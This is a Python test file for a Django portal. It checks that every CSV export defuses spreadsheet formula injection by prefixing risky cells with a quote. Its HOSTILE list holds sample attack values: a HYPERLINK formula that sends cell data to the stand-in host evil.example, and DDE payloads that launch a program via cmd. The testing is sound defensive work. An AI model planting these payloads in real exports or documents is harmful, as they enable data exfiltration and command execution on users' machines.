"""Every CSV file the portal writes is safe to open in a spreadsheet: no cell starts with
what a spreadsheet would run as a formula, whatever people typed into the records."""

import csv
import io

import pytest
from django.urls import reverse

from accounts_requests.models import ManagedAccount
from moderation.models import Category, Commenter, Entry
from portal.csvsafe import FORMULA_STARTS, neutralise
from tests.moderation.helpers import log_entry
from tests.test_url_access import ROUTES, url_world  # noqa: F401 (the world fixture)

# Every route that answers with a CSV file, and how to reach it.
EXPORTS = {
    "moderation:export": lambda w: reverse("moderation:export"),
    "moderation:rights_export": lambda w: reverse("moderation:rights_export"),
    "accounts_requests:account_export": lambda w: reverse("accounts_requests:account_export"),
    "accounts_requests:figures_template": lambda w: reverse(
        "accounts_requests:figures_template", args=[w.account.pk]
    ),
    "accounts_requests:figures_template_all": lambda w: reverse(
        "accounts_requests:figures_template_all"
    ),
}

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+44 20 7946 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_every_csv_export_is_listed_here(world, as_user):
    client = as_user(world.users["comms"])
    found = set()
    for name, route in ROUTES.items():
        url = reverse(name, kwargs=route.url_kwargs(world)) + route.query
        response = client.get(url)
        if response.status_code == 200 and response["Content-Type"].startswith("text/csv"):
            found.add(name)
    assert found == set(EXPORTS), "check each new CSV export below, then list it in EXPORTS"


def make_everything_hostile(world, comms):
    """Put a formula at the start of every text a person can type that an export shows."""
    for n, account in enumerate(ManagedAccount.objects.all()):
        ManagedAccount.objects.filter(pk=account.pk).update(
            name=HOSTILE[n % len(HOSTILE)], handle=HOSTILE[(n + 1) % len(HOSTILE)]
        )
    for n, value in enumerate(HOSTILE):
        log_entry(comms, world.account, handle=f"@troll{n}", excerpt=value)
    for n, commenter in enumerate(Commenter.objects.all()):
        Commenter.objects.filter(pk=commenter.pk).update(handle=HOSTILE[n % len(HOSTILE)])
    Entry.objects.update(post_url=HOSTILE[0], comment_url=HOSTILE[1])
    Category.objects.filter(slug="abuse").update(name=HOSTILE[2])
    type(comms).objects.filter(pk=comms.pk).update(first_name=HOSTILE[3], last_name="")


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_cell_of_an_export_would_run_as_a_formula(name, world, as_user):
    comms = world.users["comms"]
    make_everything_hostile(world, comms)
    response = as_user(comms).get(EXPORTS[name](world))
    assert response.status_code == 200
    rows = rows_of(response)
    assert len(rows) >= 2
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not dangerous, dangerous
    # The hostile text is still there for a reader, only defused.
    if name != "accounts_requests:figures_template":
        assert any(cell.startswith("'") for cell in cells)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44", "'+44"),
        ("-2", "'-2"),
        ("@handle", "'@handle"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (7, "7"),
    ],
)
def test_a_cell_is_neutralised_only_when_it_would_run(value, expected):
    assert neutralise(value) == expected
